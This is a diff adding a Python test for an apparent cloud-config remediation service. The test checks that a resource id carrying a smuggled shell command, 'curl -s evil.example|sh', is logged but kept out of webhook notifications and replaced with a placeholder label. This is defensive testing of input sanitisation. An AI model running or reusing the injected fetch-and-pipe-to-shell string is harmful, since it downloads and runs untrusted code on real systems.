@@ -112,6 +112,23 @@ def test_a_failed_repair(stage: Stage, hook: Webhook) -> None:
     assert hook.of("unsettled")[0]["labels"] == {"bucket": "failing-bucket", "outcome": "failed"}
 
 
+def test_nothing_that_is_no_bucket_name_stands_in_a_command(stage: Stage, hook: Webhook) -> None:
+    """A resource's id that a shell would run is told of, and comes to nobody's clipboard."""
+    hostile = "shop; curl -s evil.example|sh #"
+    event = json.loads((ROOT / "events" / "failed_invalid_bucket_name.json").read_bytes())
+    names = event["evaluationResultIdentifier"]["evaluationResultQualifier"]
+    names.update(resourceId=hostile, configRuleId=stage.rule_id)
+    names["resourceOwnerId"] = event["accountId"] = stage.spec.account_id
+    send(stage, json.dumps(event).encode())
+
+    check_until(stage.cloud, hook, "kept")
+
+    assert stage.audit()[-1]["bucket"] == hostile
+    assert sorted(hook.names()) == ["kept", "unsettled"]
+    assert "evil" not in json.dumps(hook.calls)
+    assert hook.of("unsettled")[0]["labels"] == {"bucket": "NO-BUCKET-NAME", "outcome": "failed"}
+
+
 def test_a_message_kept_without_an_audit_line(stage: Stage, hook: Webhook) -> None:
     """Runs that end before they can write anything are seen all the same, in the platform's log."""
     names = (stage.spec.service.name, stage.spec.function.name)
